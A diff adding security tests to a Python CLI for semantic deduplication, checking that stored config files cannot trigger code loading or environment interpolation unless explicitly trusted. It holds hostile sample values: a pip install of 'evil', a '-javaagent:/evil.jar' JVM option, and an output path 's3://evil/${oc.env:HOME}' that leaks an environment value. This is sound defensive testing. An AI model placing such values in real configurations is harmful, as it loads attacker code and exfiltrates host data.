@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 import re
 import shlex
 from collections.abc import Callable
@@ -347,6 +348,58 @@ class TestAStoredRun:
         for more in ([], ["comparison_rows=8"], ["unit_rows=9"]):
             assert semdedup("--config-path=.", *more).code == 0
         assert seen == [7, 8, 9]
+
+    @pytest.mark.parametrize(
+        ("runner", "setting", "given"),
+        [
+            ({"name": "ray", "runtime_env": {"pip": ["evil"]}}, "runtime_env", "{pip: [good]}"),
+            ({"name": "flink", "flink_job_server_jar": "/evil.jar"}, "flink_job_server_jar", "/good.jar"),
+            (
+                {"name": "flink", "options": {"job_server_jvm_properties": ["-javaagent:/evil.jar"]}},
+                "options",
+                "{job_server_jvm_properties: [-Xmx1g]}",
+            ),
+        ],
+    )
+    def test_runs_no_code_that_it_names_unless_it_is_trusted(
+        self,
+        runner: dict[str, Any],
+        setting: str,
+        given: str,
+        semdedup: Command,
+        monkeypatch: pytest.MonkeyPatch,
+    ) -> None:
+        Path("semdedup.yaml").write_text(json.dumps({"input_path": "in", "output_path": "out", "runner": runner}))
+        seen = []
+        monkeypatch.setattr(cli, "_deduplicate", lambda parameters: seen.append(parameters.runner) or {})
+        name = f"runner.{setting}"
+        refused = (["eps=0.5"], ["trust_stored=false"], [f"runner={runner['name']}"])
+        inner = [f"{name}.pip=[good]"] if setting == "runtime_env" else ["runner.num_workers=2"]
+        for more in (*refused, inner):
+            ended = semdedup("--config-path=.", *more)
+            assert (ended.code, seen) == (2, [])
+            assert f"--config-path=.: {name} has code run, and is not taken from a stored file: " in ended.err
+        accepted: list[list[str]] = [["trust_stored=true"], [f"{name}={given}"], [f"~{name}"], ["runner=direct"]]
+        for more in accepted:
+            ended = semdedup("--config-path=.", *more)
+            assert ended.code == 0, ended.err
+        trusted, replaced, dropped, other = (getattr(found, setting, None) for found in seen)
+        assert trusted == runner[setting]
+        assert "good" in str(replaced) or "-Xmx1g" in str(replaced)
+        assert "evil" not in f"{replaced}{dropped}{other}"
+        assert "unknown parameter trust_stored" in semdedup("input_path=a", "output_path=b", "trust_stored=true").err
+
+    def test_resolves_nothing_but_its_own_values_unless_it_is_trusted(
+        self, semdedup: Command, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        Path("semdedup.yaml").write_text("input_path: in\noutput_path: s3://evil/${oc.env:HOME}\n")
+        seen = []
+        monkeypatch.setattr(cli, "_deduplicate", lambda parameters: seen.append(parameters.output_path) or {})
+        ended = semdedup("--config-path=.")
+        assert (ended.code, seen) == (2, [])
+        assert "${…:…} in a stored file is not resolved" in ended.err
+        assert semdedup("--config-path=.", "trust_stored=true").code == 0
+        assert seen == [f"s3://evil/{os.environ['HOME']}"]
 
     @pytest.mark.parametrize(
         "content", [None, "- a", "a: [", "unheard: 1", "hydra: {job: {chdir: true}}", "defaults: [evil]"]
